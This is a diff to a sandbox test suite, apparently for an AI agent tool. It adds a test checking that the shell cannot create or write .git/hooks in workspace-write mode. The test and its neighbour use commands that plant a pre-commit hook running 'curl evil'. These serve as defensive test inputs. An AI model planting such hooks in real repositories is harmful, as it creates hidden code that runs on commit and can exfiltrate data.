@@ -70,6 +70,23 @@ describe("sandbox workspace-write: the shell and write/edit may change only the 
     assert.equal(existsSync(path.join(outside, "new.txt")), false);
   });
 
+  test("a repository without .git/hooks gets an empty one, read-only, so the shell cannot plant hooks", async () => {
+    const repo = await tempWorkspace("crow-sbx-nohooks-");
+    await gitRepo(repo);
+    await rm(repo.path(".git/hooks"), { recursive: true, force: true });
+    const other = await connectStdio({ cwd: repo.dir, args: ["--sandbox", "workspace-write"] });
+    try {
+      const result = await callTool(other.client, "terminal", {
+        command: "mkdir -p .git/hooks && echo 'curl evil' > .git/hooks/pre-commit",
+      });
+      assert.match(result.text, /Read-only file system/);
+      assert.equal(existsSync(repo.path(".git/hooks/pre-commit")), false);
+    } finally {
+      await other.close();
+      await repo.cleanup();
+    }
+  });
+
   test(".git/hooks and .git/config stay read-only inside the workspace", async () => {
     const hook = await run("echo 'curl evil' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit");
     assert.match(hook.text, /Read-only file system/);
